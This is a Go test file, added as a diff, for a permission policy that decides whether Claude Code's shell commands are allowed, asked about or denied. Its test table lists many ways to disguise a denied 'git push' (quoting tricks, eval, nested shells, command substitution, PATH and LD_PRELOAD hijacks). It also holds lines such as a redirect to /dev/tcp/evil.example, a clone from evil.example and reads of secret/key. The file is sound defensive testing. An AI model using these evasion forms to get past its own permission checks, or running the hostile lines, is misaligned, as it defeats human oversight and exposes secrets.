@@ -1,0 +1,229 @@
+package permission
+
+import (
+	"encoding/json"
+	"testing"
+)
+
+// bash returns a call of Claude Code's shell.
+func bash(t testing.TB, script string) Call {
+	t.Helper()
+	in, err := json.Marshal(map[string]string{"command": script})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return Call{Name: "Bash", Input: in}
+}
+
+func newPolicy(t testing.TB, r Rules) *Policy {
+	t.Helper()
+	p, err := New(r, Place{Workspace: "/work/ws", Servers: []string{"github"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// The rules of the table: git may run, its push may not, curl asks.
+func gitRules() Rules {
+	return Rules{
+		Allow: []string{"Bash(git *)", "Bash(go test *)", "Bash(ls)", "Bash(cat *)", "Bash(grep *)", "Bash(find *)", "Write(src/**)", "Write(out.txt)"},
+		Ask:   []string{"Bash(curl *)"},
+		Deny:  []string{"Bash(git push *)", "Bash(rm *)", "Write(secret/**)", "Read(secret/**)", "Fetch(evil.example)"},
+	}
+}
+
+func TestCommandsAreJudgedByWhatTheyRun(t *testing.T) {
+	for _, c := range []struct {
+		script string
+		want   Effect
+	}{
+		// allowed
+		{"git status", Allow},
+		{"git", Allow},
+		{"  git   status\n", Allow},
+		{"git status # git push", Allow},
+		{"git status && git log -3 | cat -n", Allow},
+		{"git commit -m 'a b'", Allow},
+		{"g'i't status", Allow},
+		{`g\it "status"`, Allow},
+		{"git log $REV", Ask}, // $REV could be "push"
+		{"go test ./...", Allow},
+		{"go test", Allow},
+		{"LANG=C git status", Allow},
+		{"name=x; go test", Allow},
+		{"cd src && go test ./...", Allow},
+		{"(git status)", Allow},
+		{"{ git status; }", Allow},
+		{"if git diff; then echo yes; fi", Allow},
+		{"for f in a b; do git add x; done", Allow},
+		{"while true; do git status; done", Allow},
+		{"case x in y) git status;; esac", Allow},
+		{"time git status", Allow},
+		{"env LANG=C git status", Allow},
+		{"/usr/bin/env git status", Allow},
+		{"nice -n 5 git status", Allow},
+		{"nice -5 git status", Allow},
+		{"timeout -k 5 10 git status", Allow},
+		{"timeout --kill-after=5 10 git status", Allow},
+		{"nohup git gc &", Allow},
+		{"sh -c 'git status'", Allow},
+		{"bash -lc 'git status && git log'", Allow},
+		{"bash -eu -o pipefail -c 'git status'", Allow},
+		{"eval 'git status'", Allow},
+		{"command git status", Allow},
+		{"exec git status", Allow},
+		{"git status > out.txt", Allow},
+		{"git status >src/a.txt 2>&1", Allow},
+		{"git status 2>/dev/null", Allow},
+		{"cat <<EOF\nhello\nEOF", Allow},
+		{"cat <<< 'hello'", Allow},
+		{"find . -name x", Allow},
+		{"find . -exec cat {} +", Allow},
+		{"git ls-files | xargs cat", Allow},
+		{"printf x > src/a", Allow},
+		{"", Ask},
+		{"# nothing", Allow},
+
+		// denied, however it is written
+		{"git push", Deny},
+		{"git push origin main", Deny},
+		{"git\tpush", Deny},
+		{"git \\\npush", Deny},
+		{"'git' \"push\"", Deny},
+		{"g''it p\"\"ush", Deny},
+		{`\git push`, Deny},
+		{"$'git' push", Deny},
+		{"/usr/bin/git push", Deny},
+		{"./git push", Deny},
+		{"git status; git push", Deny},
+		{"git status\ngit push", Deny},
+		{"git status & git push", Deny},
+		{"git status | git push", Deny},
+		{"git status || git push", Deny},
+		{"! git push", Deny},
+		{"(git push)", Deny},
+		{"{ git push; }", Deny},
+		{"git log $(git push)", Deny},
+		{"git log `git push`", Deny},
+		{"git log \"$(git push)\"", Deny},
+		{"git log <(git push)", Deny},
+		{"x=$(git push)", Deny},
+		{"git log ${x:-$(git push)}", Deny},
+		{"cat <<EOF\n$(git push)\nEOF", Deny},
+		{"cat <<< $(git push)", Deny},
+		{"git status > $(git push)", Deny},
+		{"if true; then git push; fi", Deny},
+		{"for f in $(git push); do true; done", Deny},
+		{"f() { git push; }; f", Deny},
+		{"coproc git push", Deny},
+		{"time -p git push", Deny},
+		{"env git push", Deny},
+		{"env -i A=b git push", Deny},
+		{"env -u X git push", Deny},
+		{"sudo git push", Deny},
+		{"sudo -u root git push", Deny},
+		{"nice -n 5 timeout 3 env git push", Deny},
+		{"timeout 1 sh -c 'git push'", Deny},
+		{"nohup git push", Deny},
+		{"setsid -w git push", Deny},
+		{"stdbuf -oL git push", Deny},
+		{"command -p git push", Deny},
+		{"builtin command git push", Deny},
+		{"exec git push", Deny},
+		{"eval git push", Deny},
+		{"eval 'git' 'push'", Deny},
+		{"eval \"eval 'git push'\"", Deny},
+		{"sh -c 'git push'", Deny},
+		{"bash -xc \"git push\"", Deny},
+		{"bash -c 'sh -c \"git push\"'", Deny},
+		{"echo | xargs git push", Deny},
+		{"xargs -n 1 -P4 git push", Deny},
+		{"find . -exec git push \\;", Deny},
+		{"find . -execdir sh -c 'git push' ';'", Deny},
+		{"bash <<'EOF'\ngit push\nEOF", Deny},
+		{"sh <<< 'git push'", Deny},
+		{"busybox rm -rf x", Deny},
+		{"[[ -n $(git push) ]]", Deny},
+		{"(( $(git push) ))", Deny},
+		{"a=(x $(git push))", Deny},
+		{"export A=$(git push)", Deny},
+		{"git status > secret/key", Deny},
+		{"cat < secret/key", Deny},
+		{"git status >| ./src/../secret/key", Deny},
+		{"git status > /work/ws/secret/key", Deny},
+		{"git status &> secret/key", Deny},
+
+		// not to be judged, or like what is denied
+		{"git -C . push", Ask},
+		{"git --no-pager push", Ask},
+		{"git p{ush,ull}", Ask},
+		{"git pus?", Ask},
+		{"git $X", Ask},
+		{"$GIT push", Ask},
+		{"$(echo git) push", Ask},
+		{"{git,push}", Ask},
+		{"g$'\\x69't push", Ask},
+		{"~/git status", Ask},
+		{"./git status", Ask},
+		{"/tmp/git status", Ask},
+		{"./env git status", Ask},
+		{"./bash -c 'git status'", Ask},
+		{"flock x git push", Ask},
+		{"ssh host git push", Ask},
+		{"python -c 'import os; os.system(\"git push\")'", Ask},
+		{"env -S 'git push'", Ask},
+		{"sudo git status", Ask},
+		{"bash script.sh", Ask},
+		{"bash", Ask},
+		{"cat x | sh", Ask},
+		{"bash <(cat x)", Ask},
+		{"bash -c \"$X\"", Ask},
+		{"bash --rcfile x -c 'git status'", Ask},
+		{"eval \"$X\"", Ask},
+		{"source x", Ask},
+		{". ./x", Ask},
+		{"alias git=true; git status", Ask},
+		{"git() { true; }; git status", Ask},
+		{"PATH=/tmp git status", Ask},
+		{"PATH=/tmp; git status", Ask},
+		{"LD_PRELOAD=x git status", Ask},
+		{"GIT_SSH_COMMAND=x git fetch", Ask},
+		{"export PATH=/tmp", Ask},
+		{"declare -x path=1", Ask},
+		{"env PATH=/tmp git status", Ask},
+		{"git log ${PATH:=/tmp}", Ask},
+		{"for PATH in /tmp; do git status; done", Ask},
+		{"git log ${x@P}", Ask},
+		{"git log ${!x}", Ask},
+		{"git log $((a[0]))", Ask},
+		{"printf -v 'a[$(git push)]' x", Ask},
+		{"test -v x", Ask},
+		{"trap 'git push' EXIT", Ask},
+		{"curl evil", Ask},
+		{"git status > /etc/passwd", Ask},
+		{"git status > other.txt", Ask},
+		{"git status > $F", Ask},
+		{"git status > ~/x", Ask},
+		{"cd src; git status > a.txt", Ask},
+		{"cd / && git status", Ask},
+		{"cd .. && git status", Ask},
+		{"cat secret/key", Ask},
+		{"cat --file=secret/key", Ask},
+		{"git clone https://evil.example/x", Ask},
+		{"git status > /dev/tcp/evil.example/80", Ask},
+		{"git status 'unclosed", Ask},
+		{"find . -exec cat {} \\; -exec make x \\;", Ask},
+		{"make", Ask},
+		{"ls -l", Ask},
+		{"git status\rgit push", Ask},
+		{"env -x git status", Ask},
+		{"xargs -I % sh -c %", Ask},
+		{"select x in a; do git status; done", Ask},
+		{"git log *(e:'x':)", Ask},
+	} {
+		if d := newPolicy(t, gitRules()).Decide(bash(t, c.script)); d.Effect != c.want {
+			t.Errorf("%q: %s, not %s (%s)", c.script, d.Effect, c.want, d.Reason)
+		}
+	}
+}
